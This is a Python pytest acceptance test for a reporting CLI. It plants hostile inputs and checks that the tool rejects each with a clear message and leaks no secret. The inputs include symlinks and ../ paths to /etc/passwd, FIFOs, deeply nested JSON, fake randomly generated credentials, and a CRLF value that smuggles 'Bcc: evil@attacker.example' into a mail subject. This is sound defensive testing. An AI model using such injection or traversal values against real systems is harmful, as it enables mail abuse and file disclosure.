"""Audit 17's hostile portfolio (an outside tester's, from the docs alone) as an acceptance test.

The portfolio is ``tests/data/audit17`` plus what cannot be kept in git or must be fresh: random
secrets planted at test time (a note's admin password, two postgres URLs, a private key block, a
site's ``api_key`` links, a code file named after a live Stripe key, an entity name holding one, a
``.env`` password pasted in a ledger memo), FIFOs, links out to ``/etc/passwd``, an empty note, a
JSONL line nested 100,000 deep and a smaller file of unclosed Terraform blocks (the 1M-line
``.env`` and the 200k-row table are left to ``bench/bigfiles.py`` and its bounded tests).

The real CLI runs in subprocesses (``check``, ``collect --json``, ``build``, ``send`` to the
outbox, ``history --json``), and every planted case must be one sentence naming its file and
line or key, the rest of each source read, no traceback, and no planted secret in any output,
mail, built report or store cell.
"""

from __future__ import annotations

import base64
import email
import email.policy
import json
import os
import re
import secrets
import shutil
import string
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from execbrief.cli import cli
from kits.outputs import every_byte_written

DATA = Path(__file__).parent.parent / "data" / "audit17"
#: What the tester planted in the portfolio folder; every other file there a run wrote.
INPUTS = frozenset({"notes", "ledgers", "bookings", "code", "sites", "env"})
#: A run on a loaded 2-core machine took 4 to 7 s; a hang is what this bound is for.
BOUND_SECONDS = 90
ALNUM = string.ascii_letters + string.digits


def rnd(n: int, alphabet: str = ALNUM) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


def planted() -> dict[str, str]:
    """Fresh random secret values, as the tester's plant.sh draws them."""
    return {
        "ADMIN_PW": rnd(6) + "#" + rnd(9),
        "PG_PW": rnd(18),  # postgres://admin:...@db.example.com/app
        "PG_PW_NOEX": rnd(18),  # the same on a host that is not an example one
        "PRIVKEY_LINE": base64.b64encode(os.urandom(48)).decode(),
        "SITE_APIKEY": rnd(28),
        "SITE_APIKEY2": rnd(28),
        "SKFILE": "sk_live_" + rnd(24),
        "SKNAME": "sk_live_" + rnd(24),
        "FILE_TOKEN": rnd(32, "0123456789abcdef"),
        "ENV_PW": rnd(20),
    }


def write(root: Path, relative: str, text: str) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def plant(root: Path, s: dict[str, str]) -> None:
    """The tester's portfolio in ``root``: the kept files, then what is made at test time."""
    shutil.copytree(DATA, root)
    template = root / "portfolio.toml.in"
    write(root, "portfolio.toml", template.read_text().replace("@SKNAME@", s["SKNAME"]))
    template.unlink()
    key_lines = [s["PRIVKEY_LINE"], base64.b64encode(os.urandom(48)).decode()]
    write(
        root,
        "notes/acme/secrets.md",
        "# Access\n\n## Accounts\n\n"
        f"Admin password: {s['ADMIN_PW']}\n"
        f"Database: postgres://admin:{s['PG_PW']}@db.example.com/app\n"
        f"Replica: postgres://admin:{s['PG_PW_NOEX']}@db.acmeboats.net/app\n"
        "Fuel dock: open\n\n```\n-----BEGIN RSA PRIVATE KEY-----\n"
        + "\n".join(key_lines)
        + "\n-----END RSA PRIVATE KEY-----\n```\n\nMarina slip: B-12\n",
    )
    write(root, "notes/acme/empty.md", "")
    os.mkfifo(root / "notes/acme/pipe.md")
    os.mkfifo(root / "notes/fifo.md")
    os.symlink("/etc/passwd", root / "notes/acme/passwd.md")
    write(
        root,
        "ledgers/acme.csv",
        "date,account,amount,memo,counterparty,reference,type\n"
        "2026-09-01,Assets:Checking,20000.00,Opening balance,,,opening\n"
        "2026-09-05,Income:Charters,1500.00,Charter,Stripe,BK-1,\n"
        "2026-09-10,Expenses:Fuel,300.00,Fuel,Dock,,\n"
        "2026-10-05,Income:Charters,123456789012345678901234567,Huge amount row,Stripe,BK-2,\n"
        f"2026-10-06,Expenses:Fuel,250.00,${'9' * 5000},Dock,,\n"
        f"2026-10-07,Expenses:Software,99.00,db pw {s['ENV_PW']} pasted here,Vendor,,\n"
        "2026-10-08,Income:Charters,1800.00,Charter after the bad rows,Stripe,BK-3,\n"
        "2026-11-05,Income:Charters,1700.00,Charter,Stripe,BK-4,\n"
        "2026-11-06,Expenses:Fuel,320.00,Fuel,Dock,,\n",
    )
    booking = '{{"id": "J-{0}", "created": "2026-10-0{0}", "status": "booked", "amount": {1}}}\n'
    deep = "[" * 100_000 + "]" * 100_000
    write(
        root,
        "bookings/deep.jsonl",
        booking.format(1, 100) + booking.format(2, deep) + booking.format(3, 300),
    )
    # the tester's was 69 KB (2,000+ headers); a tenth shows the same
    write(
        root,
        "code/acme/main.tf",
        "".join(f'resource "aws_s3_bucket" "b{n}" {{\n  bucket = "b{n}"\n' for n in range(200)),
    )
    write(
        root,
        f"code/acme/backend/{s['SKFILE']}.js",
        f'const apiToken = "{s["FILE_TOKEN"]}";\nmodule.exports = {{ apiToken }};\n',
    )
    write(
        root,
        "sites/acme/index.html",
        '<!doctype html>\n<html lang="en"><head><title>Acme Boats</title>'
        '<meta name="description" content="Boats"></head>\n<body><h1>Acme Boats</h1>\n'
        f'<a href="/book.html?api_key={s["SITE_APIKEY"]}&x=1">Book</a>\n'
        '<a href="bad.html">Bad</a>\n'
        f'<a href="/subscribe?api_key={s["SITE_APIKEY2"]}">Subscribe</a>\n</body></html>\n',
    )
    write(
        root,
        "env/acme.env",
        f"APP_NAME=acme\nDB_PASSWORD={s['ENV_PW']}\nSTRIPE_SECRET_KEY=sk_test_{rnd(24)}\n",
    )
    os.symlink("/etc/passwd", root / "notes/passwd-link.txt")
    os.mkfifo(root / "notes/attach.fifo")


@dataclass
class Run:
    """One CLI command's outcome."""

    args: tuple[str, ...]
    code: int
    stdout: str
    stderr: str
    seconds: float

    @property
    def said(self) -> str:
        """stdout then stderr, with the wrapping of tables and long lines undone."""
        return " ".join((self.stdout + "\n" + self.stderr).replace("│", " ").split())


@dataclass
class Audit:
    root: Path
    secrets: dict[str, str]
    runs: dict[str, Run] = field(default_factory=dict)
    searched: list[tuple[str, bytes]] = field(default_factory=list)

    def json(self, name: str) -> Any:
        return json.loads(self.runs[name].stdout)


def execbrief(args: list[str], cwd: Path) -> Run:
    started = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "execbrief", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=BOUND_SECONDS * 2,
        env={**os.environ, "COLUMNS": "80", "EXECBRIEF_PROGRESS": "never"},
    )
    return Run(tuple(args), done.returncode, done.stdout, done.stderr, time.monotonic() - started)


@pytest.fixture(scope="module")
def audit(tmp_path_factory: pytest.TempPathFactory) -> Audit:
    base = tmp_path_factory.mktemp("audit17")
    root = base / "portfolio"
    made = Audit(root, planted())
    plant(root, made.secrets)
    elsewhere = base / "elsewhere"  # the commands run from another folder, as cron does
    elsewhere.mkdir()
    config = str(root / "portfolio.toml")
    commands = {
        "check": ["check", "-c", config],
        "collect": ["collect", "-c", config, "--json"],
        "build-html": ["build", "-c", config, "--format", "html", "--out", str(root / "html")],
        "build": ["build", "-c", config],
        "send": ["send", "-c", config],
        "history": ["history", "-c", config, "--json"],
        "period": ["history", "-c", config, "--period", "2026-10"],
    }
    for name, args in commands.items():
        made.runs[name] = execbrief(args, elsewhere)
    made.searched = haystacks(made)  # read once: the tests after only read the folder
    return made


def test_every_command_ends_in_its_documented_exit_code_in_bounded_time(audit: Audit) -> None:
    expected = {"check": 1, "collect": 0, "build-html": 0, "build": 0, "send": 0, "history": 0}
    expected["period"] = 0
    for name, run in audit.runs.items():
        assert run.code == expected[name], (name, run.stderr[-2000:])
        assert "Traceback" not in run.stdout + run.stderr, name
        assert run.seconds < BOUND_SECONDS, (name, run.seconds)


#: Each planted case, as the sentence ``check`` prints for it: its file, line and the key part.
CASES = {
    "beancount include": 'ledgers/books.beancount:1: include "/etc/passwd" points outside the'
    " portfolio folder, so the included file was not read and this ledger was skipped",
    "27-digit amount": "ledgers/acme.csv:5: 1 row skipped: line 5: amount"
    " 123456789012345678901... is out of range",
    "unclosed terraform": 'code/acme/main.tf:1: resource "aws_s3_bucket" "b0" is never closed'
    " (no matching '}'), nor are 199 more after it",
    "billion laughs": "notes/acme/laughs.md:3: the front matter is not valid YAML (an alias"
    " (*name) is not allowed in front matter)",
    "fifo in the notes folder": "notes/acme/pipe.md: is a named pipe (FIFO), not a regular file;"
    " skipped without opening it",
    "fifo as the note": "notes/fifo.md: is a named pipe (FIFO), not a regular file; skipped"
    " without opening it",
    "note linking out": "notes/acme/passwd.md: is a symbolic link to a file outside the portfolio"
    " folder (the folder holding portfolio.toml); skipped without reading it",
    "impossible date": "notes/acme/baddate.md:2: the front matter value of 'updated'"
    " ('2026-13-45') cannot be read (month must be in 1..12)",
    "nested 100k deep": "bookings/deep.jsonl:2: 1 row skipped: line 2: nested too deeply to read",
    "empty note": "notes/acme/empty.md: is empty; expected the entity's handoff note",
    "duplicate header": "bookings/dup.csv:1: has the column 'amount' more than once (columns 4, 5)",
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_each_planted_case_is_one_sentence_in_check_and_collect(audit: Audit, case: str) -> None:
    sentence = CASES[case]
    # check's table once capped a source at 3 errors and hid the rest (the laughs, the link)
    assert audit.runs["check"].said.count(sentence) == 1, audit.runs["check"].stdout
    errors = [
        f"{e['provenance']['source']}{':' + str(e['provenance']['line']) if e['provenance']['line'] else ''}: {e['message']}"
        for r in audit.json("collect")["results"]
        for e in r["errors"]
    ]
    assert sum(error.startswith(sentence) for error in errors) == 1, errors


@pytest.mark.parametrize("case", sorted(CASES))
def test_history_of_the_period_lists_each_error_the_run_read(audit: Audit, case: str) -> None:
    # its table's errors cell held the first 2 of a source's errors, cut to the column's width
    assert audit.runs["period"].said.count(CASES[case]) == 1, audit.runs["period"].stdout


def test_check_lists_every_problem_and_counts_them_per_source(audit: Audit) -> None:
    said = audit.runs["check"].said
    errors = sum(len(r["errors"]) for r in audit.json("collect")["results"])
    assert errors == len(CASES)
    assert f"{errors} source errors" in said
    # the table row of the notes (its record count grows with each secret finding)
    assert re.search(r"acme handoff \d+ 5 problems, listed below", said), said
    assert "stale: 46d old, over its 45d limit" in said  # fifo-co's ledger


def records(audit: Audit, entity: str, kind: str) -> list[dict[str, Any]]:
    (result,) = (
        r for r in audit.json("collect")["results"] if (r["entity"], r["kind"]) == (entity, kind)
    )
    return list(result["records"])


def test_the_rest_of_each_source_is_read(audit: Audit) -> None:
    facts = {r["label"] for r in records(audit, "acme", "handoff") if r["type"] == "fact"}
    assert {"Laughs marker", "Baddate marker", "Cash on hand"} <= facts
    ledger = records(audit, "acme", "ledger")
    lines = {r["provenance"]["line"] for r in ledger if r["type"] == "transaction"}
    # line 2 is the opening balance; every row but the 27-digit amount of line 5 is kept
    assert lines == {3, 4, 6, 7, 8, 9, 10}
    memo = next(r["memo"] for r in ledger if r.get("provenance", {}).get("line") == 6)
    assert memo == "$" + "9" * 5000  # text, kept whole
    bookings = {r["id"] for r in records(audit, "acme", "bookings")}
    assert bookings == {"BK-1", "BK-3", "BK-4", "J-1", "J-3"}  # dup.csv is refused whole
    endpoints = [r for r in records(audit, "acme", "code") if r["type"] == "endpoint"]
    assert ("apps-script", "Code.gs", 1) in {
        (e["kind"], e["provenance"]["source"].rsplit("/", 1)[-1], e["provenance"]["line"])
        for e in endpoints
    }
    assert [r["type"] for r in records(audit, "bean-co", "handoff")] == ["fact", "note_section"]
    fifo_ledger = records(audit, "fifo-co", "ledger")  # its note is a FIFO; its ledger is read
    assert [r["provenance"]["line"] for r in fifo_ledger if r["type"] == "transaction"] == [3]


def test_a_hostile_page_is_read_as_a_browser_would(audit: Audit) -> None:
    pages = {r["path"]: r for r in records(audit, "acme", "site") if r["type"] == "site_page"}
    bad = pages["bad.html"]
    assert bad["title"] == "Bad \ufffd page"
    assert bad["malformed_links"] == ["http://[x"]  # not a broken internal link
    assert bad["broken_links"] == ["/x%00.html"]
    assert (bad["lines"]["malformed:http://[x"], bad["lines"]["broken:/x%00.html"]) == (4, 5)
    assert not bad["http_links"]


def test_secrets_are_redacted_where_they_enter_the_run(audit: Audit) -> None:
    text = audit.runs["collect"].stdout
    for marker in (
        "Admin password: [redacted: hardcoded password, fingerprint ",
        "postgres://admin:[redacted: password in a URL, fingerprint ",
        "[redacted: private key, fingerprint ",
        "/subscribe?api_key=[redacted: hardcoded API key, fingerprint ",
        "code/acme/backend/[redacted: Stripe secret key (live), fingerprint ",
        "Acme [redacted: Stripe secret key (live), fingerprint ",
    ):
        assert marker in text, marker
    known = [
        (r["provenance"]["source"], r["provenance"]["line"])
        for r in records(audit, "acme", "ledger")
        if r["type"] == "secret_finding" and r["kind"] == "known_secret"
    ]
    assert known == [("ledgers/acme.csv", 7)]


def test_several_reports_without_out_go_beside_portfolio_toml(audit: Audit) -> None:
    built = audit.runs["build"]
    assert built.stdout == ""
    written = sorted(p.name for p in (audit.root / "reports").iterdir())
    assert written == ["ceo.txt", "cfo.txt", "cmo.txt", "cto.txt"]
    for name in written:
        assert f"wrote {audit.root / 'reports' / name}" in built.stderr


def test_send_mails_each_report_once_to_the_outbox(audit: Audit) -> None:
    mails = sorted((audit.root / "outbox").glob("*.eml"))
    assert sorted(str(mail(p)["To"]) for p in mails) == [
        f"{who}@audit.example" for who in ("ceo", "cfo", "cmo", "cto")
    ]
    assert [row["status"] for row in audit.json("history")] == ["sent"] * 4


def mail(path: Path) -> email.message.EmailMessage:
    parsed = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    assert isinstance(parsed, email.message.EmailMessage)
    return parsed


def decoded_mails(root: Path) -> Iterator[tuple[str, bytes]]:
    """Each outbox mail's subject and parts decoded (quoted-printable and base64 undone)."""
    for path in sorted(root.rglob("*.eml")):
        message = mail(path)
        yield f"{path.name}:subject", str(message["Subject"]).encode()
        for part in message.walk():
            payload = part.get_payload(decode=True)
            if isinstance(payload, bytes):
                yield f"{path.name}:{part.get_content_type()}", payload


def haystacks(audit: Audit) -> list[tuple[str, bytes]]:
    """Every output of the run: the commands' stdout and stderr, every file written under the
    portfolio (mails, built reports, the store's cells decompressed) and the mails decoded."""
    found = [
        (f"{name} {stream}", text.encode())
        for name, run in audit.runs.items()
        for stream, text in (("stdout", run.stdout), ("stderr", run.stderr))
    ]
    # the configs are inputs (the entity name holds a key, as planted)
    found += [
        (where, data)
        for where, data in every_byte_written(audit.root, INPUTS)
        if not (where.startswith("portfolio") and where.endswith(".toml"))
    ]
    return found + list(decoded_mails(audit.root / "outbox"))


def test_the_store_and_outputs_were_searched(audit: Audit) -> None:
    where = {name.split(":", 1)[-1] for name, _ in audit.searched if ":" in name}
    assert {"snapshots", "source_cache", "deliveries", "text/plain"} <= where


SECRET_NAMES = list(planted())


@pytest.mark.parametrize("name", SECRET_NAMES)
def test_no_planted_secret_in_any_output_mail_or_store_cell(audit: Audit, name: str) -> None:
    value = audit.secrets[name].encode()
    leaks = [where for where, data in audit.searched if value in data]
    assert not leaks, f"{name} found in {sorted(set(leaks))}"


#: Each config-level hostile value and the key its one refusal names.
VARIANTS = {
    "nope": (
        ('[reports.ceo]\nto = ["ceo@audit.example"]\n'),
        '[reports.ceo]\nto = ["ceo@audit.example"]\nsubject = "CEO {nope} {period}"\n',
        "reports.ceo.subject: uses {nope}; expected only {title}, {period}, {covers}, {report}",
    ),
    "crlf": (
        ('[reports.ceo]\nto = ["ceo@audit.example"]\n'),
        '[reports.ceo]\nto = ["ceo@audit.example"]\n'
        'subject = "CEO {period}\\r\\nBcc: evil@attacker.example"\n',
        "reports.ceo.subject: must be one line (it goes into a mail header)",
    ),
    "asof0001": (
        "as_of = 2026-11-20",
        "as_of = 0001-01-01",
        "portfolio.as_of: 0001-01-01 is outside 1900-01-01..2999-12-31",
    ),
    "fphex": (
        "[[entities]]",
        '[[secrets.allowlist]]\nfingerprint = "zzzzqqqq1234"\nreason = "not hex"\n\n[[entities]]',
        "secrets.allowlist[0].fingerprint: 'zzzzqqqq1234' is not a fingerprint",
    ),
    "datefmt": (
        'ledger = "ledgers/acme.csv"',
        'ledger = { path = "ledgers/acme.csv", date_format = "%Q%Q" }',
        "entities[0].ledger.date_format: date_format '%Q%Q' cannot read back the date it writes",
    ),
    "attabs": (
        '"markdown"]',
        '"/etc/passwd"]',
        "reports.cfo.attach: '/etc/passwd' is outside the portfolio folder",
    ),
    "attlink": (
        '"markdown"]',
        '"notes/passwd-link.txt"]',
        "reports.cfo.attach: 'notes/passwd-link.txt' is outside the portfolio folder (the folder"
        " holding portfolio.toml) through a symbolic link",
    ),
    "attfifo": (
        '"markdown"]',
        '"notes/attach.fifo"]',
        "reports.cfo.attach: 'notes/attach.fifo' is a named pipe (FIFO), not a regular file, and"
        " was not opened",
    ),
    "attdotdot": (  # @UP@: as many ../ as climb from the portfolio folder to /
        '"markdown"]',
        '"@UP@etc/passwd"]',
        "reports.cfo.attach: '@UP@etc/passwd' is outside the portfolio folder",
    ),
}


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_a_hostile_config_value_is_refused_naming_its_key(audit: Audit, variant: str) -> None:
    # refused when the config is read, before anything forks: run in-process to keep it quick
    up = "../" * (len(audit.root.parts) - 1)
    old, new, sentence = (text.replace("@UP@", up) for text in VARIANTS[variant])
    base = (audit.root / "portfolio.toml").read_text()
    assert old in base
    text = base.replace(old, new, 1).replace('outbox = "outbox"', f'outbox = "outbox-{variant}"')
    config = audit.root / f"portfolio-{variant}.toml"
    config.write_text(text)
    for command in ("check", "send"):
        done = CliRunner().invoke(cli, [command, "-c", str(config)])
        assert done.exit_code == 2, (command, done.output)
        assert isinstance(done.exception, SystemExit)
        lines = done.stderr.strip().splitlines()
        said = " ".join(done.stderr.split())
        assert len([line for line in lines if line.startswith("error:")]) == 1, done.stderr
        assert f"error: {config}, {sentence}" in said, done.stderr
    assert not (audit.root / f"outbox-{variant}").exists()
